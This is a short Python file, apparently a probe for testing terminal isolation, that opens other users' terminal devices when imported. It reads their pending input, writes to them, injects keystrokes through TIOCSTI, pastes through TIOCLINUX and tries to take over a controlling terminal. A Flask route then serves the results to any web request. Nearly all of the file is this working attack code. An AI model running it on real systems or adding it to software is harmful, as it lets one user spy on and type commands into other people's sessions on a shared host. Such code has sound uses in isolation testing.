"""Reads other people's screens."""

import contextlib
import fcntl
import os
import pty
import select
import struct
import termios
from pathlib import Path

from flask import Flask

TIOCLINUX, TIOCGPTPEER, TIOCSCTTY, TIOCNOTTY = 0x541C, 0x5441, 0x540E, 0x5422


def attack():
    found = []
    with contextlib.suppress(OSError):
        found += [f"terminal {name}" for name in os.listdir("/dev/pts") if name != "ptmx"]
    for path in ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/ptmx", "/dev/stdin",
                 *(f"/dev/pts/{number}" for number in range(32)), "/proc/self/fd/0", "/proc/1/fd/0"]:
        with contextlib.suppress(OSError):
            number = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
            if path != "/dev/ptmx":
                with contextlib.suppress(OSError):
                    os.write(number, b"I was here\n")
                if select.select([number], [], [], 0)[0]:
                    found.append(f"{path}: {os.read(number, 4096)!r}")
            for text in (b"e", b"c"):
                with contextlib.suppress(OSError):
                    fcntl.ioctl(number, termios.TIOCSTI, text)
                    found.append(f"typed into {path}")
            with contextlib.suppress(OSError):
                fcntl.ioctl(number, TIOCLINUX, struct.pack("B", 3))
                found.append(f"pasted into {path}")
            with contextlib.suppress(OSError):
                fcntl.ioctl(number, TIOCSCTTY, 1)
                found.append(f"controls {path}")
    with contextlib.suppress(OSError):
        master, slave = pty.openpty()
        os.write(master, b"CANARY_SECRET_PREFIX left here")
    return found


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return {"found": FOUND + attack()}

    return app


FOUND = attack()
